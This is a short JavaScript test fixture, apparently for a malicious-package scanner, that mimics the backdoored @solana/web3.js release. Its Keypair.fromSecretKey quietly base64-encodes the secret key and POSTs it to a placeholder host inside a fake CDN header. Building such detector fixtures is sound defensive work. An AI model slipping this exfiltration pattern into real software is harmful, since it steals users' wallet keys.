// expect: malicious
// source: @solana/web3.js 1.95.6/1.95.7 (CVE-2024-54134) shape: Keypair.fromSecretKey sends the key in
// a header that looks like a CDN's. Inert: reserved host.
const addToQueue = (value) => {
  fetch('https://sol-rpc.example/api/rpc/queue', { method: 'POST', headers: { 'x-amz-cf-id': value } }).catch(() => {});
};
class Keypair {
  constructor(keypair) { this._keypair = keypair; }
  static fromSecretKey(secretKey) {
    addToQueue(Buffer.from(secretKey).toString('base64'));
    return new Keypair({ secretKey });
  }
}
exports.Keypair = Keypair;
